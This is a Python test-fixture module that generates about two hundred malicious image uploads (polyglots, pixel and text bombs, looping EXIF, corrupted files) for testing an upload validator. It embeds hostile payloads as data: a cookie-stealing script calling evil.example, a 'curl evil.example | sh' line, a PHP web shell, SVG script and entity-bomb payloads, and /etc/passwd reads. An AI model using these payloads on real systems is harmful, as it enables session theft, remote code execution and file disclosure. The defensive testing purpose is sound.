"""Two hundred files that people who mean harm send as photographs, each with a name that says what it is."""

import io
import random
import struct
import zipfile
import zlib

import pillow_heif
from PIL import Image

from tests import photographs

SECRET = b"<script>fetch('//evil.example/'+document.cookie)</script>"
FORMATS = ("JPEG", "PNG", "WEBP", "GIF", "HEIF")


def heic(*, size: tuple[int, int] = (320, 200), exif: bytes = b"") -> bytes:
    """Return a photograph as newer phones take them."""
    drawn = pillow_heif.from_pillow(Image.new("RGB", size, "red"))
    raw = io.BytesIO()
    drawn.save(raw, format="HEIF", **({"exif": exif} if exif else {}))
    return raw.getvalue()


def _good() -> dict[str, bytes]:
    made = {kind: photographs.picture(kind) for kind in FORMATS if kind != "HEIF"}
    return made | {"HEIF": heic()}


def _zipped() -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as archive:
        archive.writestr("evil.php", SECRET)
    return raw.getvalue()


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def _png(width: int, height: int, rows: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [_chunk(b"IHDR", head), _chunk(b"IDAT", zlib.compress(rows)), _chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _tiff(kind: str, *, size: tuple[int, int] = (20, 20)) -> bytes:
    raw = io.BytesIO()
    Image.new("RGB", size, "red").save(raw, kind)
    return raw.getvalue()


_TAILS = {
    "a script": SECRET,
    "an archive": _zipped(),
    "a program": b"MZ" + bytes(60) + b"PE\0\0" + SECRET,
    "a shell": b"\n#!/bin/sh\ncurl evil.example | sh\n" + SECRET,
    "php": b"<?php system($_GET['c']); ?>" + SECRET,
    "a paper": b"%PDF-1.7\n/JavaScript " + SECRET,
    "an svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>' + SECRET,
}


def _polyglots():
    for kind, raw in _good().items():
        for name, tail in _TAILS.items():
            yield f"{kind} with {name} behind it", raw + tail
    jpeg = _good()["JPEG"]
    for name, head in _TAILS.items():
        yield f"{name} before a JPEG", head + jpeg
        comment = b"\xff\xfe" + struct.pack(">H", len(head[:60000]) + 2) + head[:60000]
        yield f"a JPEG with {name} as its comment", jpeg[:2] + comment + jpeg[2:]
        text = _chunk(b"tEXt", b"Comment\0" + head)
        yield f"a PNG with {name} as its text", _good()["PNG"][:33] + text + _good()["PNG"][33:]


def _wrong():
    yield "nothing", b""
    yield "a nought", b"\0"
    for name, raw in _TAILS.items():
        yield f"{name} alone", raw
    yield "html", b"<!DOCTYPE html><html>" + SECRET
    yield "an entity bomb", b'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><svg>&b;</svg>'
    yield "an svg that reads files", b'<svg xmlns:xlink="x"><image xlink:href="file:///etc/passwd"/></svg>'
    yield "postscript", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n"
    for kind in ("TIFF", "BMP", "ICO", "PPM", "TGA", "PCX", "DIB"):
        yield f"a {kind}", _tiff(kind, size=(32, 32))
    yield "a film", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(200)
    for kind, raw in _good().items():
        yield f"the first bytes of a {kind} and rubbish", raw[:16] + random.Random(kind).randbytes(3000)


def _bombs():
    yield "900 million pixels", photographs.bomb()
    for side in (6_000, 20_000, 65_535, 2**31 - 1):
        yield f"a PNG that says {side}", _png(side, side, b"\0")
    for side in (20_000, 65_535):
        gif = bytearray(photographs.picture("GIF", mode="P"))
        gif[6:10] = struct.pack("<HH", side, side)
        yield f"a GIF that says {side}", bytes(gif)
        jpeg = bytearray(photographs.picture())
        at = jpeg.index(b"\xff\xc0") + 5
        jpeg[at : at + 4] = struct.pack(">HH", side, side)
        yield f"a JPEG that says {side}", bytes(jpeg)
    yield "a PNG of ten million equal bytes", _png(3_000, 100, bytes(10_000_000))
    text = zlib.compress(b"A" * 40_000_000)
    inflated = _chunk(b"zTXt", b"Comment\0\0" + text)
    png = photographs.picture("PNG")
    yield "a PNG whose text inflates", png[:33] + inflated + png[33:]
    frames = [Image.new("P", (8, 8), number) for number in range(200)]
    raw = io.BytesIO()
    frames[0].save(raw, "GIF", save_all=True, append_images=frames[1:])
    yield "a film of two hundred frames", raw.getvalue()


def _told():
    jpeg = photographs.picture()
    for number in (1, 40, 200):
        told = b"Exif\0\0" + SECRET * 900
        segment = b"\xff\xe1" + struct.pack(">H", len(told) + 2) + told
        yield f"{number} segments of notes", jpeg[:2] + segment * number + jpeg[2:]
    loop = b"Exif\0\0II*\0\x08\0\0\0" + b"\x01\0" + struct.pack("<HHII", 0x8769, 4, 1, 8) + b"\x08\0\0\0"
    yield (
        "notes that lead to themselves",
        jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(loop) + 2) + loop + jpeg[2:],
    )
    for turn in (0, 9, 65_535):
        exif = Image.Exif()
        exif[0x0112] = turn
        yield f"turned by {turn}", photographs.picture(exif=exif)
    yield "an HEIC with notes", heic(exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0" + SECRET)


def _damaged():
    chance = random.Random("damaged")
    for kind, raw in _good().items():
        for part in (0.02, 0.1, 0.5, 0.9, 0.99):
            yield f"a {kind} cut off at {part}", raw[: int(len(raw) * part)]
        for turn in range(18):
            hurt = bytearray(raw)
            for _bit in range(1 + turn):
                hurt[chance.randrange(12, len(hurt))] = chance.randrange(256)
            yield f"a {kind} hurt {turn}", bytes(hurt)


def files() -> list[tuple[str, bytes]]:
    """Return them all."""
    return [*_polyglots(), *_wrong(), *_bombs(), *_told(), *_damaged()]
